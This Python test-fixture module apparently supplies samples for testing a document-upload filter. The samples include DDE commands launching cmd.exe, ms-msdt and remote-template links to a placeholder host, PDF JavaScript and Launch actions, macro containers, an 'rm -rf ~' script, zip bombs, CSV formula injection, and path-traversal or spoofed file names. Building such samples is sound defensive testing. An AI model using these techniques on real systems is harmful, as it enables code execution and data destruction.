"""Files that somebody means harm with, or that go wrong by themselves; and those that must get through."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache, partial
from typing import Any, NamedTuple

from pypdf import PdfReader, PdfWriter

from tables.uploads import OLE
from tests.assessments import photos
from tests.assessments.builders import PNG
from tests.files import pdf

PROGRAM = b"MZ\x90\0\3\0\0\0" + bytes(60) + b"This program cannot be run in DOS mode."
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
DRAWING = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
# Every scanner takes this text for a virus; it is none.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class Sent(NamedTuple):
    """A file as it is sent: its name, and what makes its content."""

    name: str
    make: Callable[[], bytes]

    @property
    def content(self) -> bytes:
        return made(self.make)


@cache
def made(make: Callable[[], bytes]) -> bytes:
    return make()


def given(content: bytes) -> Callable[[], bytes]:
    return lambda: content


# -- archives --------------------------------------------------------------------


def zipped(parts: Mapping[str, bytes], *, prefix: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(prefix)
    with zipfile.ZipFile(out, "a" if prefix else "w", zipfile.ZIP_DEFLATED) as container:
        for name, content in parts.items():
            container.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


_OPEN_XML = "application/vnd.openxmlformats-officedocument"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = {
    "word": ("word/document.xml", "wordprocessingml.document"),
    "xl": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "ppt": ("ppt/presentation.xml", "presentationml.presentation"),
}


def open_xml(
    kind: str = "word", parts: Mapping[str, bytes] | None = None, *, body: str = "", listed: str = ""
) -> dict[str, bytes]:
    """The parts of a small document, as Word or WPS writes them, with `parts` beside or in place of them."""
    main, content_type = MAIN[kind]
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types '
            'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/{main}" ContentType="{_OPEN_XML}.{content_type}.main+xml"/>'
            f"{listed}</Types>"
        ).encode(),
        "_rels/.rels": relations(("officeDocument", main, False)),
        main: f'<?xml version="1.0"?><w:document xmlns:w="{_W}">{body}</w:document>'.encode(),
        "docProps/core.xml": b"<cp:coreProperties xmlns:cp='x' xmlns:dc='y'><dc:creator>AUTHOR</dc:creator>"
        b"</cp:coreProperties>",
        **(parts or {}),
    }


def relations(*which: tuple[str, str, bool]) -> bytes:
    there = {True: ' TargetMode="External"', False: ""}
    lines = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATION}/{kind}" Target="{target}"{there[is_external]}/>'
        for number, (kind, target, is_external) in enumerate(which)
    )
    return (
        '<?xml version="1.0"?><Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'
    ).encode()


def docx(parts: Mapping[str, bytes] | None = None, **more: Any) -> bytes:
    return zipped(open_xml("word", parts, **more))


def led(kind: str, target: str) -> bytes:
    """A Word document that leads elsewhere by such a relation."""
    return docx({"word/_rels/document.xml.rels": relations((kind, target, True))})


def fields(*words: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return docx(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


def bomb(megabytes: int) -> bytes:
    return docx({"word/media/a.bin": bytes(megabytes * 1024**2)})


def lying_bomb() -> bytes:
    """Its list says that each part has ten bytes."""
    content = bytearray(bomb(64))
    for mark, place in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        found = content.find(mark)
        while found >= 0:
            content[found + place : found + place + 4] = struct.pack("<I", 10)
            found = content.find(mark, found + 4)
    return bytes(content)


def locked_zip() -> bytes:
    content = bytearray(docx())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def nested() -> bytes:
    inner = zipped({"a.docx": docx()})
    return docx({"word/embeddings/a.docx": docx({"word/embeddings/b.zip": inner})})


def ole(*streams: str, content: bytes = b"") -> bytes:
    names = b"".join(name.encode("utf-16-le").ljust(64, b"\0") for name in streams)
    return OLE + bytes(504) + names + content + bytes(512)


# -- PDF and pictures ------------------------------------------------------------


def action(words: bytes) -> bytes:
    return pdf(root=b"/OpenAction 4 0 R", objects=(b"<<" + words + b">>",))


def in_compressed_objects() -> bytes:
    """The script's words lie in a compressed stream, where no search through the bytes finds them."""
    body = b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    packed = zlib.compress(body)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    head = b"%PDF-1.5\n"
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        stream,
    ]
    written, rows = head, [b"\0" + bytes(4) + b"\xff"]
    for number, each in enumerate(bodies, start=1):
        rows.append(b"\1" + struct.pack(">I", len(written)) + b"\0")
        written += b"%d 0 obj%s endobj\n" % (number, each)
    rows += [b"\2" + struct.pack(">I", 4) + b"\0", b"\1" + struct.pack(">I", len(written)) + b"\0"]
    table = zlib.compress(b"".join(rows))
    last = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>"
    last += b"stream\n%s\nendstream endobj\n"
    return written + last % (len(table), table) + b"startxref\n%d\n%%%%EOF\n" % len(written)


def locked_pdf() -> bytes:
    writer, out = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("password", algorithm="AES-256")
    writer.write(out)
    return out.getvalue()


def moving(frames: int) -> bytes:
    """A GIF of so many frames of one point."""
    frame = b"\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0\1\0\1\0\0\x02\x02\x44\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b";"


def texts_bomb() -> bytes:
    """A PNG whose words unpack to a hundred megabytes."""
    packed = zlib.compress(bytes(100 * 1024**2), 9)
    data = b"Comment\0\0" + packed
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return PNG[:33] + chunk + PNG[33:]


def heic() -> bytes:
    return b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200)


# What is in it is not taken, under whatever name and for whatever it is sent.
REFUSED: dict[str, Sent] = {
    "page-hta": Sent("方案.hta", given(PAGE)),
    "page-pdf": Sent("方案.pdf", given(PAGE)),
    "page-jpg": Sent("照片.jpg", given(PAGE)),
    "page-csv": Sent("表.csv", given(PAGE)),
    "program-pdf": Sent("方案.pdf", given(PROGRAM)),
    "program-docx": Sent("方案.docx", given(PROGRAM)),
    "program-csv": Sent("表.csv", given(PROGRAM)),
    "program-xlsx": Sent("表.xlsx", given(PROGRAM)),
    "svg": Sent("图.svg", given(DRAWING)),
    "svg-png": Sent("图.png", given(b"<?xml version='1.0'?>" + DRAWING)),
    "script": Sent("方案.js", given(b"#!/bin/sh\nrm -rf ~\n")),
    "shortcut": Sent("方案.pdf.lnk", given(b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0" + bytes(60))),
    "rtf": Sent("方案.doc", given(rb"{\rtf1{\object\objocx{\*\objdata 01050000}}}")),
    "film": Sent("片.mp4", given(b"\0\0\0\x18ftypmp42" + bytes(64))),
    "rar": Sent("包.rar", given(b"Rar!\x1a\x07\x01\0" + bytes(64))),
    "empty-pdf": Sent("空.pdf", given(b"")),
    "empty-png": Sent("空.png", given(b"")),
    "empty-xlsx": Sent("空.xlsx", given(b"")),
    "empty-csv": Sent("空.csv", given(b"")),
    "pdf-late": Sent("方案.pdf", given(b"<script>1</script>\n" + pdf())),
    "pdf-only-head": Sent("方案.pdf", given(b"%PDF-1.4 ")),
    "pdf-cut": Sent("方案.pdf", given(pdf()[:60])),
    "pdf-javascript": Sent("方案.pdf", partial(action, b"/S/JavaScript/JS(app.alert\\(1\\))")),
    "pdf-javascript-escaped": Sent("方案.pdf", partial(action, b"/S/J#61vaScr#69pt/J#53(1)")),
    "pdf-javascript-packed": Sent("方案.pdf", in_compressed_objects),
    "pdf-names-javascript": Sent(
        "方案.pdf", lambda: pdf(root=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>")
    ),
    "pdf-launch": Sent("方案.pdf", partial(action, b"/S/Launch/Win<</F(cmd.exe)>>")),
    "pdf-opens-address": Sent("方案.pdf", partial(action, b"/S/URI/URI(http://198.51.100.7/)")),
    "pdf-submits": Sent("方案.pdf", partial(action, b"/S/SubmitForm/F(http://198.51.100.7/)")),
    "pdf-link-runs": Sent("方案.pdf", lambda: pdf(root=b"/X<</S/URI/URI(ms-msdt:/id PCWDiagnostic)>>")),
    "pdf-embedded": Sent(
        "方案.pdf",
        lambda: pdf(
            root=b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]>>>>"
        ),
    ),
    "pdf-xfa": Sent("方案.pdf", lambda: pdf(root=b"/AcroForm<</XFA[(a)4 0 R]>>")),
    "pdf-richmedia": Sent(
        "方案.pdf", lambda: pdf(root=b"/X 4 0 R", objects=(b"<</Subtype/RichMedia/Rect[0 0 1 1]>>",))
    ),
    "pdf-locked": Sent("方案.pdf", locked_pdf),
    "pdf-and-zip": Sent("方案.pdf", lambda: zipped({"run.exe": PROGRAM}, prefix=pdf())),
    "jpeg-and-zip": Sent("照片.jpg", lambda: zipped({"run.exe": PROGRAM}, prefix=photos.photo())),
    "jpeg-cut": Sent("照片.jpg", lambda: photos.photo()[:-2000]),
    "jpeg-head": Sent("照片.jpg", given(b"\xff\xd8\xff\xe0" + bytes(20))),
    "png-head": Sent("图.png", given(b"\x89PNG\r\n\x1a\nbroken")),
    "png-65000": Sent("图.png", partial(photos.png_of, 65_000, 65_000)),
    "png-texts": Sent("图.png", texts_bomb),
    "gif-10000": Sent("图.gif", partial(moving, 10_000)),
    "heic": Sent("IMG_0001.heic", heic),
    "zip": Sent("包.zip", lambda: zipped({"方案.txt": b"x"})),
    "zip-exe-docx": Sent("方案.docx", lambda: zipped({"run.exe": PROGRAM})),
    "docx-cut": Sent("方案.docx", lambda: docx()[:-30]),
    "docx-no-list": Sent("方案.docx", lambda: zipped({"word/document.xml": b"<x/>"})),
    "docm-as-docx": Sent(
        "方案.docx",
        lambda: docx(
            {"word/vbaProject.bin": ole("VBA", "_VBA_PROJECT")},
            listed='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    ),
    "macro-renamed": Sent("方案.docx", lambda: docx({"word/x.bin": ole("VBA", "_VBA_PROJECT")})),
    "xlsm": Sent(
        "表.xlsm",
        lambda: zipped(
            open_xml("xl", listed='<x ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>')
        ),
    ),
    "docx-template": Sent("方案.docx", partial(led, "attachedTemplate", "http://198.51.100.7/a.dotm")),
    "docx-template-share": Sent("方案.docx", partial(led, "attachedTemplate", r"\\198.51.100.7\a.dotm")),
    "docx-object-elsewhere": Sent("方案.docx", partial(led, "oleObject", "http://198.51.100.7/a.html!")),
    "docx-follina": Sent("方案.docx", partial(led, "hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "docx-link-script": Sent("方案.docx", partial(led, "hyperlink", "javascript:alert(1)")),
    "docx-dde": Sent("方案.docx", partial(fields, ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "docx-dde-cut": Sent("方案.docx", partial(fields, " DD", "EAU", "TO c:\\\\cmd.exe ")),
    "docx-package": Sent("方案.docx", lambda: docx({"word/embeddings/o.bin": ole("\1Ole10Native")})),
    "docx-program": Sent("方案.docx", lambda: docx({"word/media/image1.png": PROGRAM})),
    "docx-script": Sent("方案.docx", lambda: docx({"word/run.vbs": b"x"})),
    "docx-entities": Sent(
        "方案.docx",
        lambda: docx({"word/_rels/document.xml.rels": b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>"}),
    ),
    "docx-astray": Sent("方案.docx", lambda: docx({"../../etc/cron.d/x": b"x"})),
    "docx-astray-windows": Sent("方案.docx", lambda: docx({"C:/Windows/x": b"x"})),
    "docx-nested": Sent("方案.docx", nested),
    "docx-many-parts": Sent("方案.docx", lambda: docx({f"word/{number}.xml": b"" for number in range(6000)})),
    "docx-bomb": Sent("方案.docx", partial(bomb, 64)),
    "docx-lying-bomb": Sent("方案.docx", lying_bomb),
    "docx-locked": Sent("方案.docx", locked_zip),
    "docx-after-pdf": Sent("方案.docx", lambda: zipped(open_xml(), prefix=pdf())),
    "xlsx-dde": Sent(
        "表.xlsx",
        lambda: zipped(
            open_xml("xl", {"xl/externalLinks/externalLink1.xml": b"<x><ddeLink ddeService='cmd'/></x>"})
        ),
    ),
    "odt-script": Sent(
        "方案.odt",
        lambda: zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<a><script:event-listener xlink:href='vnd.sun.star.script:x'/></a>",
            }
        ),
    ),
    "doc-macros": Sent("方案.doc", lambda: ole("WordDocument", "Macros", "_VBA_PROJECT")),
    "doc-package": Sent("方案.doc", lambda: ole("WordDocument", "\1Ole10Native")),
    "doc-dde": Sent("方案.doc", lambda: ole("WordDocument", content=b"\x13 DDEAUTO c:\\cmd.exe \x15")),
    "doc-locked": Sent("方案.doc", lambda: ole("EncryptedPackage", "EncryptionInfo")),
    "xls-macro-sheet": Sent(
        "表.xls", lambda: ole("Workbook", content=b"\x85\0\x0e\0" + bytes(4) + b"\1\1\6\0Macro1")
    ),
    "msi": Sent("安装.doc", lambda: ole("!Binary.Setup")),
    "mail": Sent("信.doc", lambda: ole("__substg1.0_001A001E")),
    "too-large": Sent("方案.pdf", lambda: pdf(bytes(21 * 1024**2))),
}
# Taken or refused, as the purpose has it; nothing of it does harm where it is kept.
HARMLESS_AS_KEPT: dict[str, Sent] = {
    "gif-and-script": Sent("图.gif", lambda: moving(1) + b"/*<script>alert(1)</script>*/"),
    "jpeg-page-within": Sent("照片.html", lambda: photos.photo() + PAGE),
    "csv-formula": Sent("表.csv", given("单位,窗口\n=cmd|' /C calc'!A0,@SUM(1)\n".encode())),
    "eicar": Sent("方案.csv", given(EICAR)),
    "docx-links": Sent("方案.docx", partial(led, "hyperlink", "https://example.org/")),
    "docx-picture-elsewhere": Sent("方案.docx", partial(led, "image", "https://example.org/a.png")),
    "pdf-links": Sent("方案.pdf", lambda: pdf(root=b"/X<</S/URI/URI(https://example.org/)>>")),
}
# What clerks send, and must be taken wherever its kind is.
GOOD: dict[str, Sent] = {
    "pdf": Sent("具体工作方案.pdf", pdf),
    "pdf-scanned": Sent("扫描件.pdf", lambda: photos.saved(photos.image(size=(1654, 2339)), "PDF")),
    "photo": Sent("IMG_20080506.jpg", lambda: photos.photo(at=photos.HERE, orientation=6)),
    "png": Sent("图.png", given(PNG)),
    "gif": Sent("图.gif", partial(moving, 3)),
    "docx": Sent("方案.docx", docx),
    "docx-chart": Sent(
        "方案.docx", lambda: docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": zipped(open_xml("xl"))})
    ),
    "docx-own-template": Sent(
        "方案.docx", partial(led, "attachedTemplate", "file:///C:/Users/x/Templates/Normal.dotm")
    ),
    "docx-fields": Sent("方案.docx", partial(fields, " PAGE ", " TOC \\o &quot;1-3&quot; ")),
    "pptx": Sent("讲稿.pptx", lambda: zipped(open_xml("ppt"))),
    "wps": Sent("方案.wps", lambda: ole("WordDocument", "WpsCustomData")),
    "doc": Sent("方案.doc", lambda: ole("WordDocument", "\5SummaryInformation")),
    "odt": Sent(
        "方案.odt",
        lambda: zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<office:x xmlns:office='x'><office:scripts/></office:x>",
            }
        ),
    ),
    "ofd": Sent("公文.ofd", lambda: zipped({"OFD.xml": b"<ofd:OFD xmlns:ofd='x'/>"})),
}
# Names that lead astray; under each comes a file with nothing wrong in it.
NAMES = (
    "具体工作方案{}.bat",
    "方案.hta",
    "方案.settingcontent-ms",
    "方案.docm",
    "方案\u202efdp.exe",
    "方案{}\n.bat",
    "方案{}\u200b.exe. ",
    "方案{}\0.exe",
    "方案{}...",
    "../../etc/cron.d/方案{}",
    "..\\..\\Windows\\方案{}",
    "\\\\server\\share\\方案{}",
    "C:方案{}",
    "方案{}::$DATA",
    "方案\n换行{}",
    "方案\u202e\u2066反向{}",
    "方案\0\x1b[31m{}",
    "CON{}",
    "com1.方案{}",
    "NUL",
    "长" * 300 + "{}",
    "x" * 300 + "{}",
    "方案.exe{}",
    "方案{}.bat{}",
    '方案"|?*<b>{}',
    "{}",
    "...",
    "<script>alert(1)</script>{}",
    "=cmd|' /C calc'!A0{}",
    "-rf{}",
    "方案%00.exe{}",
)
